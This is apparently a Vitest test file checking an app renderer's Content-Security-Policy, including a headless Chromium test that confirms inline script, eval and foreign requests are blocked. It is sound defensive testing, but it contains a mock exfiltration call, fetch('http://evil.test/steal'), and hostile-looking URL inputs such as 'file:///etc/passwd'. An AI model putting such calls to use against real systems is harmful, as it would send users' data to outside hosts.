import { existsSync } from 'node:fs';
import { chromium } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { buildCsp, installCsp, withCsp, type HeadersReceivedDetails, type HeadersReceivedResponse } from './csp';

const API = 'http://localhost:3000';
const directives = (csp: string) => Object.fromEntries(csp.split('; ').map((d) => [d.split(' ')[0]!, d.split(' ').slice(1)]));

describe('the renderer’s Content-Security-Policy', () => {
  it('production: scripts only from the app, no eval or inline script, no plugins, no framing, no foreign forms or base', () => {
    const csp = directives(buildCsp({ apiOrigin: API }));
    expect(csp['default-src']).toEqual(["'self'"]);
    expect(csp['script-src']).toEqual(["'self'"]);
    expect(csp['object-src']).toEqual(["'none'"]);
    expect(csp['frame-ancestors']).toEqual(["'none'"]);
    expect(csp['base-uri']).toEqual(["'self'"]);
    expect(csp['form-action']).toEqual(["'self'"]);
    // The only network peers: the app itself and the API (plus its WebSocket for the live stream).
    expect(csp['connect-src']).toEqual(["'self'", API, 'ws://localhost:3000']);
    expect(buildCsp({ apiOrigin: 'https://api.belajar.id' })).toContain("connect-src 'self' https://api.belajar.id wss://api.belajar.id;");
    const all = buildCsp({ apiOrigin: API });
    expect(all).not.toContain('unsafe-eval');
    expect(csp['script-src']).not.toContain("'unsafe-inline'");
    expect(all).not.toMatch(/(^|[ ;])\*( |;|$)/); // no wildcard source anywhere
  });

  it('development adds only the dev server’s inline preamble and WebSocket', () => {
    const prod = directives(buildCsp({ apiOrigin: API }));
    const dev = directives(buildCsp({ apiOrigin: API, devServerOrigin: 'http://localhost:5173' }));
    expect(dev['script-src']).toEqual(["'self'", "'unsafe-inline'"]);
    expect(dev['connect-src']).toEqual([...prod['connect-src']!, 'ws://localhost:5173']);
    for (const name of Object.keys(prod)) if (name !== 'script-src' && name !== 'connect-src') expect(dev[name], name).toEqual(prod[name]);
  });

  it('replaces any CSP a response brings (whatever its header case) and keeps the other headers', () => {
    const out = withCsp({ 'content-security-policy': ['script-src *'], 'CONTENT-SECURITY-POLICY': 'default-src *', 'Content-Type': ['text/html'] }, 'default-src x');
    expect(out).toEqual({ 'Content-Type': ['text/html'], 'Content-Security-Policy': ['default-src x'] });
    expect(withCsp(undefined, 'a')).toEqual({ 'Content-Security-Policy': ['a'] });
  });

  it('is put on responses of the app’s origins only; the API, other sites and odd URLs are left alone', () => {
    let listener: ((details: HeadersReceivedDetails, callback: (response: HeadersReceivedResponse) => void) => void) | null = null;
    installCsp({ onHeadersReceived: (l) => void (listener = l) }, ['http://LOCALHOST:5173'], 'default-src x');
    const answer = (url: string) => {
      let got: HeadersReceivedResponse | null = null;
      listener!({ url, responseHeaders: { 'content-security-policy': ['none'] } }, (r) => (got = r));
      return got;
    };
    expect(answer('http://localhost:5173/src/main.tsx')).toEqual({ responseHeaders: { 'Content-Security-Policy': ['default-src x'] } });
    for (const url of ['http://localhost:3000/web/v2/x', 'https://evil.example/', 'http://localhost:5174/', 'file:///etc/passwd', 'data:text/html,x', 'not a url']) {
      expect(answer(url), url).toEqual({});
    }
  });
});

const CHROMIUM = '/usr/bin/chromium';

describe.skipIf(!existsSync(CHROMIUM))('the CSP in Chromium', () => {
  it('blocks inline script, eval and requests to other origins; the app’s own script runs', async () => {
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu'] });
    try {
      const page = await browser.newPage();
      const violations: string[] = [];
      page.on('console', (m) => violations.push(m.text()));
      const csp = buildCsp({ apiOrigin: 'http://api.test' });
      await page.route('http://app.test/**', (route) => {
        const url = route.request().url();
        if (url.endsWith('/app.js')) {
          return route.fulfill({
            contentType: 'text/javascript',
            body: `window.ownScript = true;
              try { eval('window.evaluated = true'); } catch { window.evalBlocked = true; }
              fetch('http://evil.test/steal').then(() => (window.foreignFetch = 'sent'), () => (window.foreignFetch = 'blocked'));`,
          });
        }
        return route.fulfill({
          contentType: 'text/html',
          headers: { 'Content-Security-Policy': csp },
          body: `<!doctype html><html><body><script>window.inline = true</script><script src="/app.js"></script><object data="http://evil.test/x.swf"></object></body></html>`,
        });
      });
      await page.route('http://evil.test/**', (route) => route.fulfill({ body: 'x' }));
      await page.goto('http://app.test/');
      await page.waitForFunction(() => (window as unknown as { foreignFetch?: string }).foreignFetch !== undefined);
      const state = await page.evaluate(() => {
        const w = window as unknown as Record<string, unknown>;
        return { own: w.ownScript, inline: w.inline ?? false, evaluated: w.evaluated ?? false, evalBlocked: w.evalBlocked, fetch: w.foreignFetch };
      });
      expect(state).toEqual({ own: true, inline: false, evaluated: false, evalBlocked: true, fetch: 'blocked' });
      expect(violations.some((v) => /Content Security Policy/.test(v))).toBe(true);
    } finally {
      await browser.close();
    }
  }, 60_000);
});
